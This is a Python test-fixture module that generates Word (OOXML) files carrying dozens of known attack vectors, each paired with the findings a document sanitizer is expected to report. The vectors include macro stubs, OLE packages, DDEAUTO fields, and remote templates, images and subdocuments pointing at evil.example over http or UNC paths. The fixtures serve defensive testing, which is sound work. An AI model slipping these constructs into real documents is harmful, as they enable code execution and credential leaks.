"""What a Word document can carry beside fields and links: macros, controls, objects, imported chunks, data sources."""
from . import pictures, word
from .package import MICROSOFT, XML, escaped
from .sample import EITHER, Sample, slug
from .word import W, paragraph, text

VBA = b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + b'\0' * 504 + b'Attribute VB_Name = "ThisDocument" Sub AutoOpen() '
MAIN = 'word/document.xml'


def vba(p, mark, folder='word', name='vbaProject.bin', typed=True):
	p.add('%s/%s' % (folder, name), VBA + mark.encode('ascii'), 'application/vnd.ms-office.vbaProject' if typed else None)
	if not typed:
		p.defaults['bin'] = 'application/vnd.ms-office.vbaProject'
	p.relate(p.main, MICROSOFT + '2006/relationships/vbaProject', name)


def macro(extension):
	def build(p, mark):
		vba(p, mark)
		p.add('word/vbaData.xml', XML + '<wne:vbaSuppData %s><wne:docEvents><wne:eventDocOpen/></wne:docEvents><wne:mcds><wne:mcd wne:macroName="PROJECT.%s" wne:name="%s" '
			'wne:bEncrypt="00" wne:cmg="56"/></wne:mcds></wne:vbaSuppData>' % (W, mark, mark), 'application/vnd.ms-word.vbaData+xml')
		p.relate('word/vbaProject.bin', MICROSOFT + '2006/relationships/wordVbaData', 'vbaData.xml')
	return extension, build


def setting(xml, external=None, relation=None, anchor='SETTINGS'):
	"""xml in the settings, {r} a relationship to external."""
	def build(p, mark):
		number = p.relate('word/settings.xml', relation, external.replace('{m}', mark), True) if external else ''
		p.at('word/settings.xml', anchor, xml.replace('{r}', number).replace('{m}', mark))
	return 'docx', build


def body(xml, relation=None, target=None, external=False, content=None, content_type=None, part=MAIN, anchor='BODY'):
	"""xml in the body, {r} a relationship to a part with content, or to an outside target."""
	def build(p, mark):
		number = ''
		if relation:
			name = target.replace('{m}', mark)
			number = p.relate(part, relation, name, external)
			if not external:
				p.add('word/' + name, content(mark) if callable(content) else content.replace('{m}', mark), content_type)
		p.at(part, anchor, xml.replace('{r}', number).replace('{m}', mark))
	return 'docx', build


def bytes_of(head):
	return lambda mark: head + mark.encode('ascii')


OLE = '''<w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440"><v:shape id="o1" style="width:72pt;height:72pt" o:ole=""><v:imagedata r:id="rIdImage" o:title=""/></v:shape>
<o:OLEObject Type="%s" ProgID="%s" ShapeID="o1" DrawAspect="%s" ObjectID="_1" r:id="{r}"%s/></w:object></w:r>'''
OLE_TYPE = 'application/vnd.openxmlformats-officedocument.oleObject'
CFB = bytes_of(b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + b'\0' * 504)


def ole(kind, program, aspect='Content', relation='oleObject', target='embeddings/oleObject1.bin', external=False, content=CFB, content_type=OLE_TYPE, more=''):
	return body(paragraph(OLE % (kind, program, aspect, more)), relation, target, external, content, content_type)


def activex(p, mark):
	p.add('word/activeX/activeX1.xml', XML + '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" '
		'ax:persistence="persistStreamInit" r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><ax:ocxPr ax:name="c" ax:value="%s"/></ax:ocx>' % mark,
		'application/vnd.ms-office.activeX+xml')
	p.add('word/activeX/activeX1.bin', b'\x40\x32\x05\xd7' + mark.encode('ascii'), 'application/vnd.ms-office.activeX')
	p.relate('word/activeX/activeX1.xml', MICROSOFT + '2006/relationships/activeXControlBinary', 'activeX1.bin')
	number = p.relate(MAIN, 'control', 'activeX/activeX1.xml')
	p.at(MAIN, 'BODY', paragraph('<w:r><w:object><v:shape id="x1" style="width:72pt;height:24pt"><v:imagedata r:id="rIdImage"/></v:shape><w:control r:id="%s" w:name="%s" '
		'w:shapeid="x1"/></w:object></w:r>' % (number, mark)))


def custom_xml(p, mark):
	p.add('customXml/item1.xml', XML + '<x xmlns="urn:x"><y>%s</y></x>' % mark)
	p.add('customXml/itemProps1.xml', XML + '<ds:datastoreItem ds:itemID="{00000000-0000-0000-0000-000000000009}" '
		'xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"><ds:schemaRefs><ds:schemaRef ds:uri="urn:x"/></ds:schemaRefs></ds:datastoreItem>',
		'application/vnd.openxmlformats-officedocument.customXmlProperties+xml')
	p.relate('customXml/item1.xml', 'customXmlProps', 'itemProps1.xml')
	p.relate(MAIN, 'customXml', '../customXml/item1.xml')
	p.at(MAIN, 'SDTPR', '<w:dataBinding w:prefixMappings="xmlns:n=\'urn:x\'" w:xpath="/n:x/n:y" w:storeItemID="{00000000-0000-0000-0000-000000000009}"/>')


def glossary(p, mark):
	p.add('word/glossary/document.xml', XML + '<w:glossaryDocument %s><w:docParts><w:docPart><w:docPartPr><w:name w:val="g"/></w:docPartPr><w:docPartBody>%s</w:docPartBody></w:docPart>'
		'</w:docParts></w:glossaryDocument>' % (W, paragraph(word.field('DDEAUTO cmd %s' % mark, '結果'))), word.WORD + 'document.glossary+xml')
	p.relate(MAIN, 'glossaryDocument', 'glossary/document.xml')


def keymap(p, mark):
	p.add('word/customizations.xml', XML + '<wne:tcg %s><wne:keymaps><wne:keymap wne:kcmPrimary="0741"><wne:macro wne:macroName="PROJECT.%s"/></wne:keymap></wne:keymaps></wne:tcg>'
		% (W, mark), 'application/vnd.ms-word.keyMapCustomizations+xml')
	p.relate(MAIN, MICROSOFT + '2006/relationships/keyMapCustomizations', 'customizations.xml')


def ribbon(year, uri):
	def build(p, mark):
		p.add('customUI/customUI%s.xml' % ('14' if year == '2009/07' else ''), XML + '<customUI xmlns="%s" onLoad="%s"><ribbon><tabs><tab id="t" label="x"><group id="g" label="y">'
			'<button id="b" label="z" onAction="%s" getImage="%s"/></group></tab></tabs></ribbon></customUI>' % (uri, mark, mark, mark))
		p.relate('', MICROSOFT + ('2007' if year == '2009/07' else '2006') + '/relationships/ui/extensibility', 'customUI/customUI%s.xml' % ('14' if year == '2009/07' else ''))
	return 'docx', build


def taskpane(p, mark):
	p.add('word/webextensions/taskpanes.xml', XML + '<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11"><wetp:taskpane dockstate="right" '
		'visibility="1" width="350" row="1"><wetp:webextensionref xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></wetp:taskpane></wetp:taskpanes>',
		'application/vnd.ms-office.webextensiontaskpanes+xml')
	p.add('word/webextensions/webextension1.xml', XML + '<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{1}"><we:reference id="%s" '
		'version="1.0" store="http://evil.example/" storeType="Registry"/></we:webextension>' % mark, 'application/vnd.ms-office.webextension+xml')
	p.relate('word/webextensions/taskpanes.xml', MICROSOFT + '2011/relationships/webextension', 'webextension1.xml')
	p.relate('', MICROSOFT + '2011/relationships/webextensiontaskpanes', 'word/webextensions/taskpanes.xml')


def signature(p, mark):
	p.add('_xmlsignatures/origin.sigs', b'', 'application/vnd.openxmlformats-package.digital-signature-origin')
	p.add('_xmlsignatures/sig1.xml', XML + '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo/><KeyInfo><KeyName>%s</KeyName></KeyInfo></Signature>' % mark,
		'application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml')
	p.relate('_xmlsignatures/origin.sigs', 'http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/signature', 'sig1.xml')
	p.relate('', 'http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin', '_xmlsignatures/origin.sigs')


def font(p, mark):
	p.add('word/fonts/font1.odttf', b'\0' * 32 + mark.encode('ascii'), 'application/vnd.openxmlformats-officedocument.obfuscatedFont')
	number = p.relate('word/fontTable.xml', 'font', 'fonts/font1.odttf')
	p.at('word/fontTable.xml', 'FONT', '<w:embedRegular r:id="%s" w:fontKey="{00000000-0000-0000-0000-000000000001}"/>' % number)


def thumbnail(p, mark):
	p.add('docProps/thumbnail.jpeg', pictures.jpeg(pictures.jpeg_segment(0xfe, mark.encode('ascii'))), 'image/jpeg')
	p.relate('', 'http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail', 'docProps/thumbnail.jpeg')


def properties(p, mark):
	p.add('docProps/custom.xml', XML + '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
		'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="x" linkTarget="%s">'
		'<vt:blob>%s</vt:blob></property></Properties>' % (mark, mark), 'application/vnd.openxmlformats-officedocument.custom-properties+xml')
	p.relate('', 'custom-properties', 'docProps/custom.xml')


def chart_external(p, mark):
	number = p.relate('word/charts/chart1.xml', 'oleObject', 'file:///\\\\evil.example\\%s.xlsx' % mark, True)
	p.at('word/charts/chart1.xml', 'SPACE', '<c:externalData r:id="%s"><c:autoUpdate val="1"/></c:externalData>' % number)


def chart_shapes(p, mark):
	p.add('word/drawings/drawing1.xml', XML + '<c:userShapes xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
		'<cdr:relSizeAnchor xmlns:cdr="http://schemas.openxmlformats.org/drawingml/2006/chartDrawing"><cdr:from><cdr:x>0</cdr:x><cdr:y>0</cdr:y></cdr:from><cdr:to><cdr:x>1</cdr:x>'
		'<cdr:y>1</cdr:y></cdr:to><cdr:sp macro="%s" textlink="[1]%s!A1"><cdr:nvSpPr><cdr:cNvPr id="2" name="x"/><cdr:cNvSpPr/></cdr:nvSpPr><cdr:spPr><a:prstGeom prst="rect"><a:avLst/>'
		'</a:prstGeom></cdr:spPr></cdr:sp></cdr:relSizeAnchor></c:userShapes>' % (mark, mark), 'application/vnd.openxmlformats-officedocument.drawingml.chartshapes+xml')
	number = p.relate('word/charts/chart1.xml', 'chartUserShapes', '../drawings/drawing1.xml')
	p.at('word/charts/chart1.xml', 'SPACE', '<c:userShapes r:id="%s"/>' % number)


CHUNKS = {'html': ('text/html', '<html><script>{m}</script></html>'), 'mht': ('message/rfc822', 'MIME-Version: 1.0\r\n\r\n{m}'), 'rtf': ('application/rtf', '{\\rtf1 {m}}'),
	'docx': (word.MAINS['docx'], 'PK {m}'), 'xml': ('application/xml', '<x>{m}</x>'), 'txt': ('text/plain', '{m}')}
VML = '<w:r><w:pict>%s</w:pict></w:r>'
PICTURE_LINK = paragraph('<w:r>%s</w:r>' % word.picture('{r}', 41, 'link'))

# name -> (item, (extension, build), codes of which one is expected)
ATTACKS = {
	'macro-docm': ('ooxml/macros', macro('docm'), ('macro-removed',)),
	'macro-dotm': ('ooxml/macros', macro('dotm'), ('macro-removed',)),
	'macro-docx': ('ooxml/macros', macro('docx'), ('macro-removed',)),
	'macro-dotx': ('ooxml/macros', macro('dotx'), ('macro-removed',)),
	'macro-renamed': ('ooxml/macros', ('docx', lambda p, mark: vba(p, mark, name='harmless.bin')), ('macro-removed',)),
	'macro-default-type': ('ooxml/macros', ('docx', lambda p, mark: vba(p, mark, typed=False)), ('macro-removed',)),
	'macro-as-picture': ('ooxml/macros', ('docx', lambda p, mark: vba(p, mark, name='media/x.png')), ('macro-removed', 'part-removed', 'part-damaged')),
	'doc-events': ('ooxml/macros', setting('<w:docVars><w:docVar w:name="a" w:val="{m}"/></w:docVars>', anchor='LATE'), ()),
	'keymap': ('ooxml/macros', ('docx', keymap), ('macro-removed', 'part-removed', 'addin-removed')),
	'ribbon': ('ooxml/add-ins', ribbon('2006/01', 'http://schemas.microsoft.com/office/2006/01/customui'), ('addin-removed',)),
	'ribbon14': ('ooxml/add-ins', ribbon('2009/07', 'http://schemas.microsoft.com/office/2009/07/customui'), ('addin-removed',)),
	'taskpane': ('ooxml/add-ins', ('docx', taskpane), ('addin-removed',)),
	'activex': ('ooxml/controls', ('docx', activex), ('active-control-removed',)),
	'form-macro': ('ooxml/controls', body(paragraph('<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="t1"/><w:enabled/><w:calcOnExit w:val="1"/><w:entryMacro w:val="{m}"/>'
		'<w:exitMacro w:val="{m}"/><w:textInput/></w:ffData></w:fldChar></w:r><w:r><w:instrText> FORMTEXT </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
		'%s<w:r><w:fldChar w:fldCharType="end"/></w:r>' % text('入力'))), ('macro-removed',)),
	'ole-embedded': ('ooxml/objects', ole('Embed', 'Package'), ('object-to-picture', 'object-removed')),
	'ole-equation': ('ooxml/objects', ole('Embed', 'Equation.3'), ('object-to-picture', 'object-removed')),
	'ole-icon': ('ooxml/objects', ole('Embed', 'Package', 'Icon'), ('object-to-picture', 'object-removed')),
	'ole-exe': ('ooxml/objects', ole('Embed', 'Package', content=bytes_of(b'MZ\x90\0'), target='embeddings/x.exe'), ('object-to-picture', 'object-removed')),
	'ole-linked': ('ooxml/objects', ole('Link', 'Word.Document.12', target='file:///\\\\evil.example\\{m}.docx', external=True, more=' UpdateMode="Always"'),
		('object-to-picture', 'object-removed', 'external-removed')),
	'ole-url': ('ooxml/objects', ole('Link', 'htmlfile', target='mhtml:http://evil.example/{m}!x', external=True, more=' UpdateMode="OnCall"'), ('object-to-picture', 'external-removed')),
	'ole-package-script': ('ooxml/objects', ole('Embed', 'Package', relation='package', target='embeddings/x.js', content='WScript.Echo("{m}")', content_type='application/octet-stream'),
		('object-to-picture', 'inner-blocked', 'object-removed')),
	'chunk-outside': ('ooxml/external', body('<w:altChunk r:id="{r}"/>', 'aFChunk', 'http://evil.example/{m}.html', True), ('object-removed', 'external-removed')),
	'subdocument': ('ooxml/external', body('<w:subDoc r:id="{r}"/>', 'subDocument', 'file:///\\\\evil.example\\{m}.docx', True), ('external-removed',)),
	'picture-linked': ('ooxml/external', body(PICTURE_LINK, 'image', 'http://evil.example/{m}.png', True), ('external-removed',)),
	'picture-linked-unc': ('ooxml/external', body(PICTURE_LINK, 'image', '\\\\evil.example\\{m}.png', True), ('external-removed',)),
	'picture-embed-outside': ('ooxml/external', body(PICTURE_LINK.replace('r:link', 'r:embed'), 'image', 'http://evil.example/{m}.png', True), ('external-removed',)),
	'vml-src': ('ooxml/external', body(paragraph(VML % '<v:shape style="width:9pt;height:9pt"><v:imagedata src="http://evil.example/{m}.png"/></v:shape>')), ('external-removed',)),
	'vml-href': ('ooxml/external', body(paragraph(VML % '<v:shape style="width:9pt;height:9pt"><v:imagedata r:href="{r}"/></v:shape>'), 'image', 'http://evil.example/{m}.png', True),
		('external-removed',)),
	'vml-fill': ('ooxml/external', body(paragraph(VML % '<v:rect style="width:9pt;height:9pt"><v:fill type="frame" src="\\\\evil.example\\{m}.png" o:href="\\\\evil.example\\{m}.png"/></v:rect>')),
		('external-removed',)),
	'vml-stroke': ('ooxml/external', body(paragraph(VML % '<v:rect style="width:9pt;height:9pt"><v:stroke src="http://evil.example/{m}.png" althref="http://evil.example/{m}"/></v:rect>')),
		('external-removed',)),
	'vml-style': ('ooxml/external', body(paragraph(VML % '<v:rect style="width:9pt;background:url(http://evil.example/{m})"/>')), ()),
	'vml-macro': ('ooxml/macros', body(paragraph(VML % '<v:rect style="width:9pt;height:9pt" o:hralt="{m}" onmouseover="{m}"/>')), ()),
	'vml-gfxdata': ('ooxml/objects', body(paragraph(VML % '<v:rect style="width:9pt;height:9pt" o:gfxdata="UEsDBBQA{m}"/>')), ()),
	'vml-signature': ('ooxml/package', body(paragraph(VML % '<v:rect style="width:9pt;height:9pt"><o:signatureline v:ext="edit" id="{11111111-1111-1111-1111-111111111111}" '
		'provid="{00000000-0000-0000-0000-000000000000}" signinginstructionsset="t" o:signinginstructions="{m}" issignatureline="t" signinginstructions="{m}" '
		'sigprovurl="http://evil.example/{m}"/></v:rect>')), ()),
	'vml-script': ('ooxml/macros', body(paragraph(VML % '<v:rect style="width:9pt;height:9pt"><script xmlns="">{m}</script></v:rect>')), ()),
	'online-video': ('ooxml/external', body(paragraph('<w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="685800"/><wp:docPr id="42" name="v"><a:extLst><a:ext '
		'uri="{C809E66F-F1BF-436E-b5F7-EEA9579F0CBA}"><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" '
		'embeddedHtml="&lt;iframe src=&quot;http://evil.example/{m}&quot;&gt;" h="315" w="560"/></a:ext></a:extLst></wp:docPr><a:graphic><a:graphicData '
		'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="42" name="v"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
		'<a:blip r:embed="rIdImage"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>'
		'</a:graphic></wp:inline></w:drawing></w:r>')), ()),
	'content-part': ('ooxml/objects', body(paragraph('<w:r><w:contentPart r:id="{r}"/></w:r>'), 'customXml', 'ink/ink1.xml', False, '<ink>{m}</ink>', 'application/inkml+xml'), ()),
	'template': ('ooxml/external', setting('<w:attachedTemplate r:id="{r}"/>', 'http://evil.example/{m}.dotm', 'attachedTemplate', 'VIEW'), ('template-removed',)),
	'template-unc': ('ooxml/external', setting('<w:attachedTemplate r:id="{r}"/>', 'file:///\\\\evil.example\\{m}.dotm', 'attachedTemplate', 'VIEW'), ('template-removed',)),
	'mail-merge': ('ooxml/external', setting('<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/><w:connectString w:val="Provider=x;{m}"/><w:query '
		'w:val="SELECT {m}"/><w:dataSource r:id="{r}"/><w:odso><w:udl w:val="{m}"/><w:src r:id="{r}"/></w:odso></w:mailMerge>', 'file:///C:\\{m}.mdb', 'mailMergeSource', 'VIEW'),
		('mail-merge-removed', 'external-removed')),
	'transform': ('ooxml/external', setting('<w:saveThroughXslt r:id="{r}" w:solutionID="{m}"/>', 'http://evil.example/{m}.xsl', 'transform', 'VIEW'), ('external-removed',)),
	'schema': ('ooxml/external', setting('<w:attachedSchema w:val="http://evil.example/{m}"/>', anchor='LATE'), ()),
	'schema-library': ('ooxml/external', setting('<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema sl:uri="urn:x" '
		'sl:manifestLocation="http://evil.example/{m}" sl:schemaLocation="http://evil.example/{m}.xsd"/></sl:schemaLibrary>', anchor='LATE'), ()),
	'smart-tag-type': ('ooxml/external', setting('<w:smartTagType w:namespaceuri="urn:x" w:name="y" w:url="http://evil.example/{m}"/>', anchor='LATE'), ()),
	'frameset': ('ooxml/external', ('docx', lambda p, mark: p.at('word/webSettings.xml', 'WEB', '<w:frameset><w:frame><w:name w:val="f"/><w:sourceFileName r:id="%s"/></w:frame></w:frameset>'
		% p.relate('word/webSettings.xml', 'frame', 'http://evil.example/%s' % mark, True))), ('external-removed',)),
	'custom-xml': ('ooxml/package', ('docx', custom_xml), ('custom-data-removed',)),
	'glossary': ('ooxml/fields', ('docx', glossary), ()),
	'signature': ('ooxml/package', ('docx', signature), ('signature-void',)),
	'embedded-font': ('ooxml/objects', ('docx', font), ('font-removed',)),
	'thumbnail': ('ooxml/package', ('docx', thumbnail), ('thumbnail-removed',)),
	'custom-properties': ('ooxml/package', ('docx', properties), ()),
	'chart-external': ('ooxml/external', ('docx', chart_external), ('external-removed', 'object-removed', 'external-to-value', 'inner-blocked', 'object-to-picture')),
	'chart-shapes': ('ooxml/macros', ('docx', chart_shapes), ()),
	'unknown-element': ('ooxml/package', body('<w:p><x:evil xmlns:x="urn:evil">{m}</x:evil></w:p>'), ()),
	'unknown-attribute': ('ooxml/package', body('<w:p w:evil="{m}" x:y="{m}" xmlns:x="urn:evil"/>'), ()),
	'background': ('ooxml/external', ('docx', lambda p, mark: p.at(MAIN, 'TOP', '<w:background w:color="FFFFFF"><v:background id="b"><v:fill r:id="%s" type="frame"/></v:background></w:background>'
		% p.relate(MAIN, 'image', 'http://evil.example/%s.png' % mark, True))), ()),
	'numbering-picture': ('ooxml/external', ('docx', lambda p, mark: p.replace('word/numbering.xml', '<w:abstractNum ', '<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape '
		'style="width:9pt;height:9pt"><v:imagedata r:href="%s" o:title=""/></v:shape></w:pict></w:numPicBullet><w:abstractNum '
		% p.relate('word/numbering.xml', 'image', 'http://evil.example/%s.png' % mark, True))), ()),
	'diagram-outside': ('ooxml/external', body(paragraph('<w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="685800"/><wp:docPr id="43" name="d"/><a:graphic><a:graphicData '
		'uri="http://schemas.openxmlformats.org/drawingml/2006/diagram"><dgm:relIds xmlns:dgm="http://schemas.openxmlformats.org/drawingml/2006/diagram" r:dm="{r}" r:lo="{r}" r:qs="{r}" '
		'r:cs="{r}"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'), 'diagramData', 'http://evil.example/{m}.xml', True), ()),
}
for extension_, (type_, content_) in CHUNKS.items():
	ATTACKS['chunk-' + extension_] = ('ooxml/external', body('<w:altChunk r:id="{r}"/>', 'aFChunk', 'chunk.' + extension_, False, content_, type_), ('object-removed', 'part-removed', 'inner-blocked'))

TELLING = {'macro-docm', 'activex', 'ole-embedded', 'template', 'chunk-html', 'mail-merge', 'picture-linked', 'custom-xml', 'ribbon'}


def samples():
	for name, (item, (extension, build), findings) in ATTACKS.items():
		def make(mark, keep, extension=extension, build=build):
			p = word.package(keep, extension)
			build(p, mark)
			return p.bytes()
		yield Sample('word/%s.%s' % (slug(name), extension), item, make, findings=findings, telling=name in TELLING,
			verdicts=EITHER if name == 'macro-as-picture' else ('sanitized', 'clean') if name in MILD else ('sanitized',))
	for extension in word.MAINS:
		yield Sample('harmless/base.%s' % extension, 'harmless', lambda mark, keep, extension=extension: word.package(keep, extension).bytes(), harmless=True,
			verdicts=('sanitized',) if extension in ('docm', 'dotm') else ('clean',), findings=('type-changed',) if extension in ('docm', 'dotm') else (),
			telling=extension == 'docx')


# what goes with no more than a note
MILD = {'unknown-element', 'unknown-attribute', 'thumbnail', 'vml-gfxdata', 'vml-style', 'vml-macro', 'doc-events', 'custom-properties', 'schema', 'vml-script', 'chart-shapes'}
